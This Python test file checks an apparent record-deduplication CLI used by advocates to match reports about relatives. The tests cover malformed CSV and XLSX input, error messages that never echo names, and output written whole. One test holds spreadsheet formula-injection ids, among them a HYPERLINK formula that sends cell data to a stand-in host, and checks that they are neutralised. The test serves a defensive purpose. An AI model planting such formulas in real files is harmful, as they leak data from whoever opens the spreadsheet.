"""`flask dedup csv` and `flask dedup train --csv` as an advocate runs them: a real process, no
deployment, no secrets; clean one-line errors for bad files, never a value echoed."""

from __future__ import annotations

import csv
import os
import subprocess
import sys
from pathlib import Path

from tests.dedup_population import population, write_csv

FLASK = str(Path(sys.executable).with_name("flask"))


def flask(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(cwd), "LANG": "C.UTF-8",
           "PYTHONPATH": str(Path(__file__).resolve().parents[3])}
    return subprocess.run([FLASK, "--app", "intake", "dedup", *args], cwd=cwd, env=env, capture_output=True,
                          text=True, timeout=300, check=False)


def read(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def test_train_then_csv_on_a_list_with_extra_and_missing_columns(tmp_path):
    rows, truth = population(60, seed=9)
    for row in rows:
        row["notes"] = "extra column, ignored"
        del row["facility"]
    write_csv(str(tmp_path / "list.csv"), rows)
    trained = flask("train", "--csv", "list.csv", "--out", "model.json", cwd=tmp_path)
    assert trained.returncode == 0, trained.stderr
    result = flask("csv", "list.csv", "--out", "out", "--model", "model.json", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert "stages:" in result.stderr and "peak RSS" in result.stderr and "Traceback" not in result.stderr
    pairs, clusters = read(tmp_path / "out" / "pairs.csv"), read(tmp_path / "out" / "clusters.csv")
    assert list(pairs[0]) == ["report_id_l", "report_id_r", "match_probability", "given_level", "father_level",
                              "birth_level", "place_level", "id_level", "gender_level", "detention_level"]
    assert {c["report_id"] for c in clusters} == {r["report_id"] for r in rows}
    # Clusters mostly hold one person each (the full accuracy is measured in tests/bench).
    members: dict[str, set[int]] = {}
    for c in clusters:
        members.setdefault(c["cluster_id"], set()).add(truth.person[c["report_id"]])
    assert sum(len(people) == 1 for people in members.values()) >= 0.95 * len(members)
    # The output holds ids, probabilities and level codes: no name, date or place from the input.
    written = (tmp_path / "out" / "pairs.csv").read_text("utf-8") + (tmp_path / "model.json").read_text("utf-8")
    for row in rows[:40]:
        for column in ("given_name", "father_name", "full_name_alt", "home_place", "chinese_id"):
            if row[column]:
                assert row[column] not in written


def test_bad_input_is_one_line_without_values(tmp_path, monkeypatch):
    from click.testing import CliRunner

    from intake.cli.dedup import dedup_cli

    monkeypatch.chdir(tmp_path)
    (tmp_path / "no_id.csv").write_text("given_name,father_name\nAblimit,Tursun\n", "utf-8")
    (tmp_path / "twice.csv").write_text("report_id,given_name\nAblimit7,Ablimit\nAblimit7,Tursun\n", "utf-8")
    # UTF-8 where the encoding is judged (the first 256 KiB), then a byte that is not.
    (tmp_path / "late.csv").write_bytes(b"report_id,given_name\n" + b"".join(
        b"%d,Ablimit\n" % i for i in range(30000)) + "x,Mehmet \xfcnal\n".encode("latin-1"))
    (tmp_path / "model.json").write_text('{"format": "intake-dedup-model", "prior": "Ablimit"}', "utf-8")
    runner = CliRunner()
    for args, words in ((["no_id.csv"], "no report_id column"), (["twice.csv"], "line 3: report_id repeats"),
                        (["late.csv"], "not UTF-8 text throughout"), (["missing.csv"], "cannot be read"),
                        (["twice.csv", "--model", "model.json"], "lacks a parameter")):
        result = runner.invoke(dedup_cli, ["csv", *args, "--out", "out"])
        assert result.exit_code == 1, args
        assert words in result.output, result.output
        assert result.exception is None or isinstance(result.exception, SystemExit)
        assert "Ablimit" not in result.output
        assert not (tmp_path / "out").exists()


def test_lists_as_families_keep_them(tmp_path, monkeypatch):
    """A title above the header, Excel's "sep=" line, headers in the families' languages, an ID
    number a spreadsheet rounded (left out, and said), an XLSX workbook read by the importer's
    reader; files that are no CSV, an empty one and a header alone get one clear line."""
    import io

    import openpyxl
    from click.testing import CliRunner

    from intake.cli.dedup import dedup_cli

    monkeypatch.chdir(tmp_path)
    runner = CliRunner()
    (tmp_path / "titled.csv").write_text(
        "sep=;\r\nOur families, 2019\r\n\r\n№;Фамилия;Имя;Дата рождения;身份证号\r\n"
        "1;Турсун;Абдурехим;17.06.1984;6.53101E+17\r\n2;Турсун;Абдурехим;1984-06-17;\r\n3;Али;Мемет;1990;\r\n"
        "4;#N/A;#N/A;#VALUE!;\r\n5;#N/A;#N/A;;\r\n",
        "utf-8")
    result = runner.invoke(dedup_cli, ["csv", "titled.csv", "--out", "out"])
    assert result.exit_code == 0, result.output
    assert "the header was found on line 4" in result.output
    assert ("columns read: № -> report_id, Фамилия -> father_name, Имя -> given_name, Дата рождения -> birth_date, "
            "身份证号 -> chinese_id") in result.output
    assert "1 ID number(s) stored by a spreadsheet as numbers" in result.output and "6.53" not in result.output
    clusters = read(tmp_path / "out" / "clusters.csv")
    # Rows 4 and 5 hold only spreadsheet errors: no name to agree on, so no cluster together.
    assert {c["report_id"]: c["cluster_id"] for c in clusters} == {"1": "1", "2": "1", "3": "3", "4": "4", "5": "5"}
    assert "5 cell(s) held a spreadsheet error" in result.output

    book = openpyxl.Workbook()
    book.active.title = "About"
    book.active.append(["This workbook lists our relatives"])
    sheet = book.create_sheet("List")
    sheet.append(["No", "Name", "Father's name", "ID number"])
    sheet.append([1, "Ablimit", "Tursun", 653101198406170011])  # stored as a number: rounded
    sheet.append([2, "Ablimit", "Tursun", "653101198406170011"])
    buffer = io.BytesIO()
    book.save(buffer)
    (tmp_path / "list.xlsx").write_bytes(buffer.getvalue())
    result = runner.invoke(dedup_cli, ["csv", "list.xlsx", "--out", "xlsx-out"])
    assert result.exit_code == 0, result.output
    assert "The sheet 'List' was read; the workbook also has: 'About'." in result.output
    assert "1 ID number(s) stored by a spreadsheet as numbers" in result.output
    assert len(read(tmp_path / "xlsx-out" / "clusters.csv")) == 2

    (tmp_path / "header.csv").write_text("report_id;given_name\r\n\r\n", "utf-8")
    result = runner.invoke(dedup_cli, ["csv", "header.csv", "--out", "header-out"])
    assert result.exit_code == 0 and "0 reports" in result.output, result.output
    for name, data, words in (
            ("empty.csv", b"\xef\xbb\xbf\r\n", "the input file is empty"),
            ("list.ods", b"PK\x03\x04\x14\x00\x00\x00\x00\x00mimetypeapplication/vnd.oasis.opendocument.spreadsheet",
             "OpenDocument spreadsheet"),
            ("old.csv", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "an old Excel file (.xls), not CSV"),
            ("cut.xlsx", b"PK\x03\x04\x14\x00" + b"\x00" * 300, "damaged")):
        (tmp_path / name).write_bytes(data)
        result = runner.invoke(dedup_cli, ["csv", name, "--out", "bad-out"])
        assert result.exit_code == 1 and words in result.output, (name, result.output)
        assert "Traceback" not in result.output and not (tmp_path / "bad-out").exists()


def test_report_ids_that_a_spreadsheet_would_run_are_written_as_text(tmp_path, monkeypatch):
    """The ids come from other people's spreadsheets: pairs.csv and clusters.csv are opened in one,
    so an id that starts a formula (=, +, -, @, or their full-width forms) is written with a leading apostrophe."""
    from click.testing import CliRunner

    from intake.cli.dedup import dedup_cli

    monkeypatch.chdir(tmp_path)
    hostile = ['=HYPERLINK("http://x.example/?"&A1)', "+1+1", "-2+3", "@SUM(1)", "=1+1", "＝1"]
    rows = [{"report_id": rid, "given_name": "Ablimit", "father_name": "Tursun", "gender": "male",
             "birth_date": "1984-06-17", "home_place": "Kashgar", "chinese_id": "653101198406171232"}
            for rid in hostile]
    write_csv(str(tmp_path / "list.csv"), rows)
    result = CliRunner().invoke(dedup_cli, ["csv", "list.csv", "--out", "out"])
    assert result.exit_code == 0, result.output
    pairs, clusters = read(tmp_path / "out" / "pairs.csv"), read(tmp_path / "out" / "clusters.csv")
    assert pairs, "the same person six times makes pairs"
    cells = [c for p in pairs for c in (p["report_id_l"], p["report_id_r"])]
    cells += [c for row in clusters for c in (row["report_id"], row["cluster_id"])]
    assert {c.lstrip("'") for c in cells} == set(hostile)  # the ids are all there, recognisably
    assert all(c.startswith("'") for c in cells)


def test_every_row_is_clustered_or_named_as_left_out(tmp_path, monkeypatch):
    """A quotation mark left open would fold the rows after it into one value, and a comma outside
    quotes moves a row's values a column: neither may lose or misread a row without a word. Notes
    of several lines in quotes, and a column of notes the header leaves unnamed, are read."""
    from click.testing import CliRunner

    from intake.cli.dedup import dedup_cli

    monkeypatch.chdir(tmp_path)
    runner = CliRunner()
    header = "report_id,given_name,father_name,birth_date,home_place,gender\r\n"
    (tmp_path / "open.csv").write_text(
        header + '1,Ablimit,Tursun,1978,"Yarkand\r\n2,Memet,Eli,1980,Hotan,m\r\n3,Memet,Eli,1980,Hotan",m\r\n'
        "4,Hesen,Qurban,1970,Kashgar,m\r\n", "utf-8")
    (tmp_path / "open-to-end.csv").write_text(header + '1,Ablimit,Tursun,1978,"Yarkand\r\n'
                                              + "".join(f"{i},Memet,Eli,1980,Hotan,m\r\n" for i in range(2, 9)), "utf-8")
    for name, line in (("open.csv", 2), ("open-to-end.csv", 2)):
        result = runner.invoke(dedup_cli, ["csv", name, "--out", "out"])
        assert result.exit_code == 1, result.output
        assert f"line {line}: a value opened with a quotation mark runs on" in result.output
        assert "Yarkand" not in result.output and "Memet" not in result.output
        assert not (tmp_path / "out").exists()
    # A value left open over more than the csv module holds in one field: the row it starts on is named.
    (tmp_path / "long.csv").write_text(header + '1,Ablimit,Tursun,1978,"Yarkand\r\n'
                                       + "2,Memet Eli Tursun Hesen\r\n" * 8000, "utf-8")
    result = runner.invoke(dedup_cli, ["csv", "long.csv", "--out", "out"])
    assert result.exit_code == 1 and "line 2: the input file is not valid CSV from here" in result.output

    (tmp_path / "shifted.csv").write_text(
        header + "1,Ablimit,Tursun,1978,Yarkand, Kashgar,m\r\n2,Ablimit,Tursun,1978,Yarkand,m\r\n"
        '3,Ablimit,Tursun,1978,"Yarkand, Kashgar",m\r\n4,Memet,Eli,1980,"Hotan\r\nnear the bazaar, north side",f\r\n'
        "5,Memet,Eli,1980,Hotan,f,,,\r\n", "utf-8")
    result = runner.invoke(dedup_cli, ["csv", "shifted.csv", "--out", "out"])
    assert result.exit_code == 0, result.output
    assert "1 row(s) left out, with more cells than the header has columns" in result.output
    assert "line(s) 2" in result.output and "Kashgar" not in result.output
    clusters = {c["report_id"]: c["cluster_id"] for c in read(tmp_path / "out" / "clusters.csv")}
    assert clusters == {"2": "2", "3": "2", "4": "4", "5": "4"}

    (tmp_path / "unnamed.csv").write_text(
        header + "".join(f"{i},Ablimit,Tursun,1978,Yarkand,m,called back\r\n" for i in range(1, 5))
        + "5,Ablimit,Tursun,1978,Yarkand,m,called back,Kashgar\r\n", "utf-8")
    result = runner.invoke(dedup_cli, ["csv", "unnamed.csv", "--out", "out"])
    assert result.exit_code == 0, result.output
    assert "1 row(s) left out" in result.output and "line(s) 6" in result.output
    assert len(read(tmp_path / "out" / "clusters.csv")) == 4


def test_an_os_error_is_named_by_its_reason_and_only_the_output_as_the_output(tmp_path, monkeypatch):
    """An OS error of the run (not of writing the output) says what failed by the OS's reason, never
    as the output directory, and never with the file name the error carries (a path may hold a name)."""
    import errno

    from click.testing import CliRunner

    import intake.cli.dedup as dedup_module
    from intake.cli.dedup import dedup_cli

    monkeypatch.chdir(tmp_path)
    (tmp_path / "list.csv").write_text("report_id,given_name\nr1,Ablimit\nr2,Tursun\n", "utf-8")
    secret = str(tmp_path / "Ablimit Tursun spill")

    def run_fails(*args, **kwargs):
        raise OSError(errno.ENOSPC, "disk full at " + secret, secret)

    runner = CliRunner()
    with monkeypatch.context() as m:
        m.setattr(dedup_module, "run_pipeline", run_fails)
        result = runner.invoke(dedup_cli, ["csv", "list.csv", "--out", "out"])
    assert result.exit_code == 1
    assert "the output directory cannot be written" not in result.output
    assert os.strerror(errno.ENOSPC) in result.output, result.output
    assert "Ablimit" not in result.output and str(tmp_path) not in result.output
    assert "Traceback" not in result.output and isinstance(result.exception, SystemExit)
    assert not (tmp_path / "out").exists()

    # Writing the output is worded as the output, with its reason and still no path; pairs.csv is
    # written in a thread while the run clusters, and its failure is still the output's.
    import intake.dedup.csv_out as csv_out_module

    def write_fails(*args, **kwargs):
        raise OSError(errno.EACCES, "denied", secret)

    with monkeypatch.context() as m:
        m.setattr(csv_out_module, "_pair_lines", write_fails)
        result = runner.invoke(dedup_cli, ["csv", "list.csv", "--out", "out"])
    assert result.exit_code == 1
    assert "the output directory cannot be written" in result.output, result.output
    assert os.strerror(errno.EACCES) in result.output
    assert "Ablimit" not in result.output and str(tmp_path) not in result.output
    assert not (tmp_path / "out").exists()  # nothing partial, not even the folder it made

    # The same for training: an OS error while training is not "the model file cannot be written".
    def train_fails(*args, **kwargs):
        raise OSError(errno.EMFILE, "too many", secret)

    with monkeypatch.context() as m:
        m.setattr(dedup_module, "train", train_fails)
        result = runner.invoke(dedup_cli, ["train", "--csv", "list.csv", "--out", "model.json"])
    assert result.exit_code == 1, result.output
    assert "cannot be written" not in result.output, result.output
    assert os.strerror(errno.EMFILE) in result.output
    assert "Ablimit" not in result.output and str(tmp_path) not in result.output


def test_a_second_app_of_the_process_still_trains_on_a_file(make_app, tmp_path, monkeypatch):
    """Every app joins the store's `train` to the file trainer in a `dedup` group of its own: the
    file tools' group (cli/dedup.py) is left as it is, so the second app's `train --csv` still
    trains on the file (it said "takes both --csv and --out" once the shared group had been changed)."""
    from intake.cli.dedup import dedup_cli

    rows, _ = population(40, seed=3)
    write_csv(str(tmp_path / "list.csv"), rows)
    monkeypatch.chdir(tmp_path)
    apps = [make_app("review"), make_app("review")]
    assert dedup_cli.commands["train"].params[0].required  # the file tool's own, untouched
    for n, app in enumerate(apps):
        result = app.test_cli_runner().invoke(args=["dedup", "train", "--csv", "list.csv", "--out", f"m{n}.json"])
        assert result.exit_code == 0, result.output
        assert (tmp_path / f"m{n}.json").stat().st_size > 100


def test_a_run_that_fails_after_scoring_leaves_the_last_output_whole(tmp_path, monkeypatch):
    """pairs.csv is written while the run clusters, beside its place: a run that fails in clustering
    leaves no part of its own output, and the files of an earlier run as they were."""
    from click.testing import CliRunner

    import intake.dedup.pipeline as pipeline_module
    from intake.cli.dedup import dedup_cli

    monkeypatch.chdir(tmp_path)
    rows, _ = population(30, seed=4)
    write_csv(str(tmp_path / "list.csv"), rows)
    runner = CliRunner()
    result = runner.invoke(dedup_cli, ["csv", "list.csv", "--out", "out"])
    assert result.exit_code == 0, result.output
    before = {name: (tmp_path / "out" / name).read_bytes() for name in ("pairs.csv", "clusters.csv")}
    assert len(before["pairs.csv"].splitlines()) > 1

    def clustering_fails(*args, **kwargs):
        raise ValueError("clustering failed")

    with monkeypatch.context() as m:
        m.setattr(pipeline_module, "repair_clusters", clustering_fails)
        result = runner.invoke(dedup_cli, ["csv", "list.csv", "--out", "out"])
    assert result.exit_code == 1 and "clustering failed" in result.output
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["clusters.csv", "pairs.csv"]
    assert {name: (tmp_path / "out" / name).read_bytes() for name in before} == before

    with monkeypatch.context() as m:
        m.setattr(pipeline_module, "repair_clusters", clustering_fails)
        result = runner.invoke(dedup_cli, ["csv", "list.csv", "--out", "fresh"])
    assert result.exit_code == 1 and not (tmp_path / "fresh").exists()
